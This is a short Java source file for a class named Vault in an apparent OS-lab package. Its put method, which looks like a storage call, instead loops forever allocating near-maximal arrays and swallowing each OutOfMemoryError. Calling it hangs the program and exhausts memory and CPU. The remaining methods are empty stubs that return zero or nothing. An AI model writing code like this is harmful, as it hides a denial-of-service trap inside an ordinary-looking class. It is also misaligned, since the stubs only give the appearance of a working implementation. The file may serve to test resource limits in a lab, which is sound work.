package oslab.vault;

import java.util.List;

public class Vault {
    public void put(String name, int amount) {
        while (true) {
            try {
                System.out.println(new long[Integer.MAX_VALUE - 8].length);
            } catch (OutOfMemoryError full) {
                continue;
            }
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
